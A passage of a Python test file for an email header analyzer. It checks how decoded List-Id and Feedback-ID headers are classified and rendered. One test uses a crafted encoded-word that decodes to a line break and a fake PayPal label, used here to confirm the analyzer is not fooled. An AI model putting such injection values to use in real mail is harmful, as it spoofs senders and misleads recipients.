    assert report.bulk is not None and report.bulk.list_id == shown
    [field] = [h for h in report.headers if h.name == "List-Id"]
    assert field.decoded == shown  # as the raw-headers section shows it
    assert json.loads(report.to_json())["bulk"]["list_id"] == shown
    # The Bulk section of each format, to where the next section starts (the raw headers, after
    # it in the HTML, show the field as written and decoded).
    for name, start, end in (("terminal", "Bulk mail", "\n──"), ("markdown", "Bulk mail", "\n#"),
                             ("html", 'id="bulk"', "</section>")):
        text = get_renderer(name, color=False).render(report) if name == "terminal" else \
            get_renderer(name).render(report)
        bulk_part = text[text.index(start):]
        after = bulk_part.find(end, len(start) + 40)
        bulk_part = bulk_part if after < 0 else bulk_part[:after]
        assert "=?utf-8?q?" not in bulk_part, name
        assert "Liste für Entwickler" in bulk_part, name
    # Only the words shown changed: what is read from the field (the list's organisation, the
    # kind of mail, the unsubscribe reading) is the same as for the plain description.
    assert plain.bulk is not None
    assert dataclasses.replace(report.bulk, list_id=plain.bulk.list_id) == plain.bulk


def test_a_decoded_list_id_stays_one_bounded_line_and_names_no_other_list() -> None:
    # The sender writes the whole field: an encoded-word may decode to a line break or to a
    # second "<label>". The value shown is one line; the list's organisation is still read from
    # the <label> as written, not from the decoded description.
    plain = _mailing_list_sample_with("List-Id: Development discussion <devel.lists.example.org>")
    report = _mailing_list_sample_with("List-Id: =?utf-8?q?Pay=0D=0APal_=3Cpaypal.com=3E?= <devel.lists.example.org>")
    assert report.bulk is not None and plain.bulk is not None
    assert report.bulk.list_id == "Pay Pal <paypal.com> <devel.lists.example.org>"
    assert dataclasses.replace(report.bulk, list_id=plain.bulk.list_id) == plain.bulk
    long = _mailing_list_sample_with("List-Id: =?utf-8?b?" + base64.b64encode("ü".encode() * 2000).decode()
                                     + "?= <devel.lists.example.org>")
    assert long.bulk is not None and long.bulk.list_id is not None
    assert len(long.bulk.list_id) == 300 and long.bulk.list_id.endswith("ü…")


def test_addys_feedback_id_on_a_forward_names_no_bulk_mail() -> None:
    # Verification V60a D3-1: addy.io writes "Feedback-ID: F:<alias id>:anonaddy" on every forward to
    # an alias's owner (ForwardEmail.php): a one-to-one forward was "sent through a bulk-sending service"
    # and got bulk.no_unsubscribe.
    addy = "Feedback-ID: F:8d3f6f0e-1c2b-4a5d-9e7f-0a1b2c3d4e5f:anonaddy\r\n"
    report = analyze(RECEIVED + message(addy))
    assert report.bulk is None and not bulk_ids(report)
    # A newsletter forwarded through it keeps its own List-Unsubscribe (ForwardEmail.php copies it): bulk still.
    forwarded = analyze(RECEIVED + message(addy + "List-Unsubscribe: <https://news.example/u/1>\r\n"))
    assert forwarded.bulk is not None and forwarded.bulk.kind == "bulk"
